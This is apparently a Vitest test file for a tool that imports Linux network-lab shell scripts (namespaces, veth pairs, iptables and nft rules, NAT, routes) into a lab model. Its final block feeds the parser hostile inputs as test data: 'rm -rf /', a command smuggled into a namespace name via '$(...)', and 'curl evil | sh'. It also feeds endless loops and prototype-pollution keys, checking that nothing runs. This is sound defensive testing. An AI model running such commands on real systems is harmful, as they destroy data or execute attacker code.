import { describe, expect, it, test } from 'vitest'
import { describeFinding } from '../../text/import'
import { LOCALES } from '../../text/locale'
import { importScript } from './import-script'

/** `LINE CODE` of the findings that are more than remarks. */
function told(text: string): string[] {
  return importScript(text)
    .findings.filter(({ severity }) => severity !== 'info')
    .map(({ line, code }) => `${line} ${code}`)
}

/** Two namespaces and a cable, to which the cases add. */
const PAIR = `ip netns add left
ip netns add right
ip link add cable-l type veth peer name cable-r
ip link set cable-l netns left
ip link set cable-r netns right
ip -n left link set lo up
ip -n right link set lo up
ip -n left link set cable-l up
ip -n right link set cable-r up
ip -n left addr add 10.7.0.1/24 dev cable-l
ip -n right addr add 10.7.0.2/24 dev cable-r
`
const PAIR_LAB = {
  nodes: {
    host: { kind: 'host' },
    left: { kind: 'namespace', interfaces: { 'cable-l': { addresses: ['10.7.0.1/24'] } } },
    right: { kind: 'namespace', interfaces: { 'cable-r': { addresses: ['10.7.0.2/24'] } } },
  },
  links: { 'left.cable-l--right.cable-r': { endpoints: ['left:cable-l', 'right:cable-r'] } },
}

describe('a packet filter', () => {
  const ROUTER = `${PAIR}ip netns exec left sysctl -w net.ipv4.ip_forward=1\n`
  const filter = (text: string) => {
    const { lab, findings } = importScript(ROUTER + text)
    expect(findings.filter(({ severity }) => severity === 'error')).toEqual([])
    const { left } = lab.nodes
    return left?.kind === 'namespace' ? left.filter : undefined
  }
  const open = { action: 'accept', state: ['established', 'related'] }
  const web = { action: 'accept', in: 'cable-l', protocol: 'tcp', port: 80 }
  const wanted = { input: { policy: 'drop', rules: [open, web] }, forward: { policy: 'drop', rules: [{ action: 'reject' }] } }

  it.each([
    [
      'iptables, with conntrack',
      `for c in INPUT FORWARD; do ip netns exec left iptables -P $c DROP; done
ip netns exec left iptables -A INPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT
ip netns exec left iptables -A INPUT -i cable-l -p tcp --dport 80 -j ACCEPT
ip netns exec left iptables -A FORWARD -j REJECT`,
    ],
    [
      'iptables, with -m state, inserted, deleted and by a chain of its own',
      `ip netns exec left iptables -P INPUT DROP
ip netns exec left iptables --policy FORWARD DROP
ip netns exec left iptables -N WEB
ip netns exec left iptables -A WEB -p tcp --dport 80 -j ACCEPT
ip netns exec left iptables -A INPUT -i cable-l -j WEB
ip netns exec left iptables -I INPUT -m state --state ESTABLISHED,RELATED -j ACCEPT
ip netns exec left iptables -A FORWARD -s 10.0.0.0/8 -j ACCEPT
ip netns exec left iptables -A FORWARD -j REJECT --reject-with icmp-port-unreachable
ip netns exec left iptables -D FORWARD 1`,
    ],
    [
      'iptables-restore',
      `ip netns exec left iptables-restore <<'END'
*filter
:INPUT DROP [0:0]
:FORWARD DROP [0:0]
:OUTPUT ACCEPT [0:0]
-A INPUT -m state --state RELATED,ESTABLISHED -j ACCEPT
-A INPUT -i cable-l -p tcp -m tcp --dport 80 -j ACCEPT
-A FORWARD -j REJECT --reject-with icmp-port-unreachable
COMMIT
END`,
    ],
    [
      'nft',
      `ip netns exec left nft -f - <<'END'
table inet filter {
  chain input {
    type filter hook input priority 0; policy drop;
    ct state { established, related } accept
    iifname "cable-l" tcp dport 80 counter accept
  }
  chain forward {
    type filter hook forward priority filter; policy drop;
    reject with icmpx type port-unreachable
  }
}
END`,
    ],
  ])('in the words of %s', (_, text) => {
    expect(filter(text)).toEqual(wanted)
  })

  it('is gone once it is flushed and its policies are back', () => {
    expect(
      filter(`ip netns exec left iptables -P INPUT DROP
ip netns exec left iptables -A INPUT -j ACCEPT
ip netns exec left iptables -F
ip netns exec left iptables -P INPUT ACCEPT`),
    ).toBeUndefined()
  })

  it('has a rule for each of several ports', () => {
    const text = 'ip netns exec left iptables -A INPUT -p tcp -m multiport --dports 80,443 -j ACCEPT'
    expect(filter(text)?.input?.rules?.map(({ port }) => port)).toEqual([80, 443])
  })
})

describe('neighbours that are written down', () => {
  const neighbours = (text: string) => {
    const { left } = importScript(PAIR + text).lab.nodes
    return left?.kind === 'namespace' ? left.neighbours : undefined
  }
  const entry = { address: '10.7.0.2', mac: '02:00:00:00:00:01', dev: 'cable-l' }

  it.each([
    'ip netns exec left arp -s 10.7.0.2 02:00:00:00:00:01',
    'ip netns exec left arp -i cable-l -s 10.7.0.2 02:00:00:00:00:01',
    'ip -n left n a 10.7.0.2 lladdr 02:00:00:00:00:01 dev cable-l',
    'ip -n left neigh replace 10.7.0.2 lladdr 02:00:00:00:00:01 dev cable-l nud permanent proto 222',
    'ip -n left neigh add 10.7.0.2 lladdr 02:00:00:00:00:09 dev cable-l\nip -n left neigh change 10.7.0.2 lladdr 02:00:00:00:00:01 dev cable-l',
  ])('%s', (text) => {
    expect(neighbours(text)).toEqual([entry])
  })

  it.each([
    'ip -n left neigh del 10.7.0.2 dev cable-l',
    'ip netns exec left arp -d 10.7.0.2',
    'ip -n left neigh flush nud permanent',
    'ip -n left link set cable-l down; ip -n left link set cable-l up',
    'ip -n left link set cable-l address 02:00:00:00:00:77',
  ])('are gone after %s', (text) => {
    const add = 'ip -n left neigh add 10.7.0.2 lladdr 02:00:00:00:00:01 dev cable-l'
    expect(neighbours(`${add}\n${text}`)).toBeUndefined()
    expect(neighbours(`${add}\nip -n left neigh flush all`)).toEqual([entry])
  })
})

describe('one network in many styles', () => {
  test.each([
    ['plain commands', PAIR],
    [
      'abbreviations',
      'ip net a left; ip net a right\nip l a cable-l type veth peer cable-r\nip l s cable-l netns left up && ip l s cable-r netns right up\n' +
        'ip -n left a a 10.7.0.1/24 dev cable-l\nip -n right a a 10.7.0.2/24 dev cable-r\nip -all netns exec ip l set lo up',
    ],
    [
      'ip netns exec, nested, and sudo',
      PAIR.replaceAll(/ip -n (\w+)/g, 'sudo ip netns exec $1 ip').replace(
        'sudo ip netns exec left ip',
        'ip netns exec left ip netns exec left ip',
      ),
    ],
    [
      'both ends born in place',
      `${PAIR.slice(0, PAIR.indexOf('ip link add'))}ip link add cable-l netns left type veth peer name cable-r netns right\n${PAIR.slice(PAIR.indexOf('ip -n left link'))}`,
    ],
    [
      'variables, a loop and a function',
      `#!/bin/bash
set -e
join() {
  local a=$1 b=$2
  ip link add "cable-\${a:0:1}" type veth peer name "cable-\${b:0:1}"
}
SIDES="left right"
for side in $SIDES; do ip netns add "$side"; done
join left right
i=1
for side in $SIDES; do
  dev=cable-\${side%"\${side#?}"}
  ip link set $dev netns $side
  ip netns exec $side bash -c "ip link set lo up; ip link set $dev up"
  ip -n $side addr add 10.7.0.$((i++))/24 dev $dev
done
`,
    ],
    [
      'a prompt, with answers between',
      PAIR.split('\n')
        .map((line) => `[root@box ~]# ${line}`)
        .join('\n1: lo: <LOOPBACK> mtu 65536 qdisc noop state DOWN\n    link/loopback 00:00:00:00:00:00\n'),
    ],
    ['Markdown', `# Two boxes\n\nWe join them (see the picture):\n\n\`\`\`sh\n${PAIR}\`\`\`\n\n* done!`],
    ['a fence that is never closed, and a picture before it', `\`\`\`txt\n [left]---[right]\n\`\`\`bash\n${PAIR}`],
    [
      'an indented list among Chinese',
      `## 步骤\n${PAIR.split('\n')
        .map((line) => `1、执行\n\n      ${line}`)
        .join('\n')}`,
    ],
    [
      'net-tools',
      PAIR.replace(/ip -n (\w+) addr add (\S+)\/24 dev (\S+)/g, 'ip netns exec $1 ifconfig $3 $2 netmask 255.255.255.0 up'),
    ],
    [
      'a batch',
      `ip -batch - <<EOF\n${PAIR.replaceAll(/^ip (?!-n)/gm, '')
        .split('\n')
        .filter((line) => !line.startsWith('ip -n'))
        .join('\n')}\nEOF\n${PAIR.split('\n')
        .filter((line) => line.startsWith('ip -n'))
        .join('\n')}`,
    ],
    [
      'a shell that is entered and left',
      `${PAIR.replace('ip -n left link set lo up\n', '')}# comment\n\`\`\`\n$ ip netns exec left bash\n$ ip link set lo up\n$ exit\n\`\`\``,
    ],
  ])('%s', (_, text) => {
    const { lab, findings } = importScript(text)
    expect(findings.filter(({ severity }) => severity !== 'info')).toEqual([])
    expect(lab).toMatchObject(PAIR_LAB)
    expect(Object.keys(lab.nodes).sort()).toEqual(['host', 'left', 'right'])
  })
})

describe('commands count in their order', () => {
  it('deletes both ends of a pair, and makes them anew', () => {
    const { lab } = importScript(`${PAIR}ip -n left link del cable-l\nip link add cable-l type veth peer name other`)
    expect(Object.values(lab.links)).toEqual([{ endpoints: ['host:cable-l', 'host:other'] }])
  })

  it('takes addresses and UP away from what moves, as the kernel does', () => {
    const { lab } = importScript(`${PAIR}ip -n left link set cable-l netns right`)
    expect(lab.nodes.right).toMatchObject({ interfaces: { 'cable-l': { up: false } } })
    expect(lab.nodes.left).toEqual({ kind: 'namespace' })
  })

  it('renames in place', () => {
    expect(importScript(`${PAIR}ip -n left link set cable-l name eth0`).lab.links).toEqual({
      'left.eth0--right.cable-r': { endpoints: ['left:eth0', 'right:cable-r'] },
    })
  })

  it('takes an address on the host’s own lo for a lab', () => {
    expect(importScript('ip addr add 10.255.0.1/32 dev lo').lab.nodes.host).toEqual({
      kind: 'host',
      interfaces: { lo: { addresses: ['10.255.0.1/32'] } },
    })
  })

  it('leaves what is down, down', () => {
    expect(importScript(PAIR.replace('ip -n left link set cable-l up\n', '')).lab.nodes.left).toMatchObject({
      interfaces: { 'cable-l': { up: false } },
    })
  })
})

const GATEWAY = `brctl addbr sw0
brctl stp sw0 on
for n in a b; do
  ip netns add $n
  ip link add $n-in type veth peer name $n-sw
  ip link set $n-in netns $n up
  brctl addif sw0 $n-sw
  ifconfig $n-sw up
  ip -n $n link set lo up
done
ip -n a addr add 10.8.0.2/24 dev a-in
ip -n b addr add 10.8.0.3/24 dev b-in
ip addr add 10.8.0.1/24 dev sw0
ip link set sw0 up
`

describe('bridges, routes, forwarding and rules', () => {
  it('reads brctl as it reads ip', () => {
    const { lab } = importScript(GATEWAY)
    expect(lab.nodes.sw0).toEqual({ kind: 'bridge', stp: true, addresses: ['10.8.0.1/24'] })
    expect(Object.values(lab.links)).toContainEqual({ endpoints: ['a:a-in', 'sw0:a-sw'] })
    expect(told(GATEWAY)).toEqual([])
  })

  test.each([
    'ip -n a route add default via 10.8.0.1',
    'ip netns exec a route add default gw 10.8.0.1',
    'ip netns exec a route add -net 0.0.0.0 netmask 0.0.0.0 gw 10.8.0.1',
  ])('%s', (line) => {
    expect(importScript(`${GATEWAY}${line}`).lab.nodes.a).toMatchObject({ routes: [{ to: 'default', via: '10.8.0.1' }] })
  })

  test.each([
    'sysctl -w net.ipv4.ip_forward=1',
    'sysctl net.ipv4.conf.all.forwarding = 1',
    'echo 1 > /proc/sys/net/ipv4/ip_forward',
    'echo 1 | sudo tee /proc/sys/net/ipv4/ip_forward',
    'sudo sh -c "echo 1 > /proc/sys/net/ipv4/ip_forward"',
    'echo "net.ipv4.ip_forward = 1" >> /etc/sysctl.conf; sysctl -p',
    "sed -i 's/#net.ipv4.ip_forward=1/net.ipv4.ip_forward=1/' /etc/sysctl.conf",
    'cat > /etc/sysctl.d/9.conf <<EOF\nnet.ipv4.ip_forward = 1\nEOF',
    'vim /etc/sysctl.conf ==> net.ipv4.ip_forward=1.',
  ])('%s', (line) => {
    expect(importScript(`${GATEWAY}${line}`).lab.nodes.host).toMatchObject({ forwarding: true })
  })

  const hide = { type: 'masquerade', source: '10.8.0.0/24', out: 'sw0' }
  const forward = { type: 'dnat', protocol: 'tcp', port: 8080, to: '10.8.0.2:80' }
  test.each([
    ['iptables -t nat -A POSTROUTING -s 10.8.0.0/24 -o sw0 -j MASQUERADE', hide],
    ['iptables -t nat -A POSTROUTING -s 10.8.0.0/255.255.255.0 -o sw0 -j MASQUERADE', hide],
    [
      "iptables-restore <<'EOF'\n*nat\n:POSTROUTING ACCEPT [0:0]\n-A POSTROUTING -s 10.8.0.0/24 -o sw0 -j MASQUERADE\nCOMMIT\nEOF",
      hide,
    ],
    [
      "nft add table nat; nft 'add chain nat post { type nat hook postrouting priority 100; }'; nft add rule nat post ip saddr 10.8.0.0/24 oifname sw0 masquerade",
      hide,
    ],
    ['iptables -t nat -A PREROUTING -p tcp --dport 8080 --to-destination 10.8.0.2:80 -j DNAT', forward],
    [
      'nft -f - <<EOF\ntable ip t {\n chain p {\n  type nat hook prerouting priority dstnat; policy accept;\n  tcp dport 8080 dnat to 10.8.0.2:80\n }\n}\nEOF',
      forward,
    ],
    [
      '# Generated by iptables-save\n*nat\n:PREROUTING ACCEPT [0:0]\n:POSTROUTING ACCEPT [2:140]\n[1:60] -A POSTROUTING -s 10.8.0.0/24 -o sw0 -j MASQUERADE\nCOMMIT',
      hide,
    ],
    [
      'table ip nat {\n\tchain POSTROUTING {\n\t\ttype nat hook postrouting priority srcnat; policy accept;\n\t\tip saddr 10.8.0.0/24 oifname "sw0" counter packets 0 bytes 0 masquerade\n\t}\n}',
      hide,
    ],
    [
      'iptables -t nat -N OUT\niptables -t nat -A OUT -d 10.9.0.0/16 -j RETURN\niptables -t nat -A OUT -j MASQUERADE\niptables -t nat -A POSTROUTING -s 10.8.0.0/24 -j OUT',
      { type: 'masquerade', source: '10.8.0.0/24', except: ['10.9.0.0/16'] },
    ],
    [
      'iptables -t nat -A POSTROUTING -s 10.8.0.0/24 ! -d 10.8.0.0/24 -j SNAT --to-source 10.8.0.1',
      { type: 'snat', source: '10.8.0.0/24', except: ['10.8.0.0/24'], to: '10.8.0.1' },
    ],
  ])('%s', (lines, rule) => {
    const { lab, findings } = importScript(`${GATEWAY}sysctl -w net.ipv4.ip_forward=1\n${lines}`)
    expect(lab.nodes.host).toMatchObject({ nat: [rule] })
    expect(findings.filter(({ severity }) => severity === 'error')).toEqual([])
  })

  it('deletes rules by what they say and by number', () => {
    const rule = 'POSTROUTING -s 10.8.0.0/24 -j MASQUERADE'
    for (const line of [`-D ${rule}`, '-D POSTROUTING 1', '-F'])
      expect(importScript(`${GATEWAY}iptables -t nat -A ${rule}\niptables -t nat ${line}`).lab.nodes.host).toEqual({
        kind: 'host',
      })
  })

  it('lets a rule stand without the machine’s own interface, and says so', () => {
    const text = `${GATEWAY}sysctl -w net.ipv4.ip_forward=1\niptables -t nat -A POSTROUTING -s 10.8.0.0/24 -o eth0 -j MASQUERADE`
    expect(told(text)).toEqual(['16 import-nat-nic'])
    expect(importScript(text).lab.nodes.host).toMatchObject({ nat: [{ type: 'masquerade', source: '10.8.0.0/24' }] })
  })
})

describe('mistakes', () => {
  test.each([
    ['ip nets exec left ip link', '12 import-typo'],
    ['ip -n left router default via 10.7.0.2', '12 import-typo'],
    ['ip -n left route 10.9.0.0/16 via 10.7.0.2', '12 import-no-verb'],
    ['ip -n left route add 10.9.0.0/16 via 10.7.0.2(right)', '12 import-parenthesis'],
    ['ip link add sw type bridge //a switch', '12 import-slash-comment'],
    ['ip -n left route add 10.9.0.0/16 via 10.7.0.2 eth0', '12 import-dev-forgotten'],
    ['iptables -t nat -A PREROUTING --dport 80 -j DNAT --to-destination 10.7.0.2', '12 import-port-without-protocol'],
    ['ip -n left addr add 10.7.0.9 dev cable-l', '12 import-no-prefix'],
    ['ip -n left addr add 10.7.0.9/24 dev cable-l up', '12 import-trailing-up'],
    ['ip -n left route add 10.9.0.0/16 via 192.168.77.1', '12 gateway-not-connected'],
    ['ip -n left link set cable-r name eth0', '12 import-device-elsewhere'],
    ['ip -n left addr add 10.7.1.1/24 dev cable-x', '12 import-no-device'],
    ['ip -n middle link set lo up', '12 import-netns-unmade'],
    ['ip netns del left\nip -n left link set lo up', '13 import-netns-deleted'],
    ['iptables -t nat -A POSTROUTING -s 192.168.15.0/24 -j MASQUERADE', '12 nat-source-unknown'],
    [
      'ip netns add r\nip link add r0 netns r type veth peer name r1\nip -n r addr add 10.7.0.5/24 dev r0\nip link add r2 netns r type veth peer name r3\nip -n r addr add 10.7.0.6/24 dev r2',
      '16 overlapping-subnets',
    ],
    ['iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 10.7.0.2', '12 nat-not-forwarding'],
    ['ip addr add 10.1/16 dev cable-l', '12 import-device-elsewhere'],
    ['ip -n left addr add 10.1/16 dev cable-l', '12 address-short'],
    ['ip link add this-name-is-too-long type bridge', '12 bad-interface-name'],
    ['ip -n left link add link cable-l name v.5 type vlan id 5', '12 import-device-kind'],
    ['iptables -P FORWARD DROP', '12 filter-forward-unused'],
    ['iptables -A FORWARD -i eth0 -j DROP', '12 import-filter-nic'],
    ['iptables -A INPUT -p tcp --dport 80:90 -j DROP', '12 import-one-port'],
    ['iptables -A INPUT -p gre -j DROP', '12 import-rule-beyond'],
    ['iptables -A INPUT ! -d 10.0.0.1 -j DROP', '12 import-rule-beyond'],
    ['ip netns exec left dnsmasq --interface=cable-l', '12 import-dhcp'],
    ['arp -s 10.7.0.2 02:00:00:00:00:01', '12 import-neighbour-nowhere'],
    ['ip -n left neigh add proxy 10.7.0.2 dev cable-l', '12 import-neighbour'],
    ['ip -n left neigh add 10.7.0.2 dev cable-l', '12 import-missing'],
    ['ip -n left neigh add 10.7.0.2 lladdr 01:00:5e:00:00:01 dev cable-l', '12 mac-multicast'],
    ['docker run -d --name web nginx', '12 import-container'],
    ['pipework br0 web 10.7.0.9/24', '12 import-container'],
    ['brctl addbr sw0\nbrctl addif sw0 eth0', '13 import-nic-bridge'],
    ['frobnicate --now', '12 import-unknown-command'],
    ['ip link set $DEV up', '12 import-unknown-value'],
    ['./setup.sh && bash other.sh', '12 import-unknown-command'],
  ])('%s', (lines, finding) => {
    expect(told(`${PAIR}${lines}\n`)).toContain(finding)
  })

  it('sees through a remark in parentheses in notes', () => {
    const notes = `## notes\n\`\`\`\n${PAIR}ip -n left route add 10.9.0.0/16 via 10.7.0.2(right)\n\`\`\``
    expect(told(notes)).toContain('14 import-parenthesis')
    expect(importScript(notes).lab.nodes.left).toMatchObject({ routes: [{ to: '10.9.0.0/16', via: '10.7.0.2' }] })
  })

  it('has a message and a suggestion in each language for every finding', () => {
    const { findings } = importScript(`${PAIR}ip nets a\nip -n middle addr add 10.7.0.9 dev x\nfrobnicate`)
    expect(findings.length).toBeGreaterThan(3)
    for (const locale of LOCALES)
      for (const finding of findings)
        for (const words of Object.values(describeFinding(finding, locale))) expect(words).toMatch(/^(?!.*undefined).{4,}$/s)
  })
})

describe('hostile texts are bounded and reported', () => {
  test.each([
    ['nothing', '', 'import-nothing'],
    ['prose', 'Dear reader, nothing is to be done here.', 'import-nothing'],
    ['binary', '\u007fELF\0\u0001\u0002', 'import-not-text'],
    ['ten megabytes', 'ip netns add x\n'.repeat(700_000), 'import-too-large'],
    ['a loop without end', 'while true; do ip netns add x; done', 'import-endless'],
    ['a function that calls itself', 'f() { f; f; }\nf', 'import-endless'],
    ['a loop that multiplies', 'x=ab; for ((;;)); do x=$x$x; done', 'import-endless'],
    ['a huge range', 'for i in {1..999999999}; do for j in {1..999999999}; do ip netns add n; done; done', 'import-endless'],
    ['deep nesting', `${'('.repeat(5000)}ip a${')'.repeat(5000)}`, 'import-nothing'],
    ['open quotes', `echo "\n`.repeat(2001), 'import-nothing'],
  ])('%s', (_, text, code) => {
    expect(importScript(text).findings.map((finding) => finding.code)).toContain(code)
  })

  it('reads five thousand lines without running out of steps', () => {
    const lines = Array.from(
      { length: 1000 },
      (_, n) =>
        `ip netns add n${n}\nip link add v${n} type veth peer name p${n}\nip link set p${n} netns n${n} up\nip -n n${n} addr add 10.${n >> 8}.${n & 255}.2/24 dev p${n}\nip link set v${n} up`,
    )
    expect(Object.keys(importScript(lines.join('\n')).lab.links)).toHaveLength(1000)
  })

  it('runs nothing', () => {
    const { findings, lab } = importScript(
      'ip netns add red\nrm -rf /\nip netns add $(rm -rf /; echo blue)\nip netns add `curl evil | sh`',
    )
    expect(findings.map(({ line, code }) => `${line} ${code}`)).toEqual(expect.arrayContaining(['2 import-not-run']))
    expect(Object.keys(lab.nodes)).toContain('red')
  })

  it('makes no node of prototype keys', () => {
    const { lab } = importScript('ip netns add __proto__\nip netns add constructor\nip netns add fine')
    expect(Object.keys(lab.nodes)).toEqual(['host', 'fine'])
  })
})
